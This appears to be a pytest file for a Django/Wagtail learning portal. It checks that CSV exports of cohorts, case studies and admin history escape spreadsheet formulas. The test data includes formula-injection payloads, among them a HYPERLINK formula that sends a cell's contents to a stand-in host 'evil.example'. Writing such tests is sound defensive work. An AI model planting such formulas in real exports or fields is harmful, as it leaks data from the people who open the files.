"""CSV exports open in spreadsheets as text, never as formulas (portal/spreadsheets.py):
the tutor's cohort export and the case-study catalogue, with hostile names and titles."""

import csv
import io

from django.contrib.auth import get_user_model

from wagtail.log_actions import log
from wagtail.models import Page

import pytest

from courses.demo.learners import COHORT_NAME
from courses.models import Cohort
from portal.spreadsheets import FORMULA_STARTS, spreadsheet_safe
from practices.export import FIELDS
from practices.models import CaseStudyPage, Organisation

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
    "+33 6 00 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_compute_is_kept_as_text(text):
    assert spreadsheet_safe(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Léa Martin", "Marc = Yanis", "", " =1", 42, -3, None])
def test_other_values_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == value


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_cohort_export_keeps_hostile_names_and_titles_as_text(client):
    cohort = Cohort.objects.get(name=COHORT_NAME)
    trainee = cohort.trainees.order_by("pk").first()
    get_user_model().objects.filter(pk=trainee.pk).update(first_name=FORMULAS[1], last_name="=1+1")
    Page.objects.filter(pk__in=cohort.courses.values("pk")).update(title="@SUM(A1:A9)")
    client.force_login(cohort.tutors.first())
    header, *lines = rows(client.get(f"/fr/tutoring/cohorts/{cohort.pk}/export.csv"))
    row = next(line for line in lines if line[1] == trainee.email)
    assert row[0] == f"'{FORMULAS[1]} =1+1"
    # Module columns are named after the course and the module: typed by editors.
    assert all(cell.startswith("'@SUM(A1:A9) / ") for cell in header[5:])
    assert not [cell for line in lines for cell in line if cell.startswith(FORMULA_STARTS)]


def test_the_catalogue_keeps_hostile_titles_and_names_as_text(client):
    pages = CaseStudyPage.objects.live().filter(locale__language_code="fr")
    page = pages.filter(lead_organisation__isnull=False).order_by("pk").first()
    Page.objects.filter(pk=page.pk).update(title='=HYPERLINK("https://evil.example")')
    CaseStudyPage.objects.filter(pk=page.pk).update(
        summary="+1 formateur", reference="-2+3", contact="@admin"
    )
    Organisation.objects.filter(pk=page.lead_organisation_id).update(name="=1+1")
    _header, *lines = rows(client.get("/fr/data/case-studies.csv"))
    row = next(line for line in lines if line[FIELDS.index("id")] == str(page.pk))
    record = dict(zip(FIELDS, row, strict=True))
    assert record["title"] == """'=HYPERLINK("https://evil.example")"""
    assert record["summary"] == "'+1 formateur"
    assert record["reference"] == "'-2+3"
    assert record["contact"] == "'@admin"
    assert record["lead_organisation"] == "'=1+1"
    assert not [cell for line in lines for cell in line if cell.startswith(FORMULA_STARTS)]


def test_the_admin_site_history_export_keeps_hostile_names_as_text(client):
    page = CaseStudyPage.objects.live().filter(locale__language_code="fr").first()
    Page.objects.filter(pk=page.pk).update(title="=1+1", draft_title="=1+1")
    page.refresh_from_db()
    someone = get_user_model().objects.get(email="editor@example.org")
    get_user_model().objects.filter(pk=someone.pk).update(first_name="@SUM(A1)", last_name="x")
    someone.refresh_from_db()
    log(instance=page, action="wagtail.edit", user=someone)
    client.force_login(get_user_model().objects.get(email="admin@example.org"))
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    lines = list(csv.reader(io.StringIO(text)))
    row = next(line for line in lines if "'@SUM(A1) x" in line)
    assert "'=1+1" in row
    assert not [cell for line in lines for cell in line if cell.startswith(FORMULA_STARTS)]
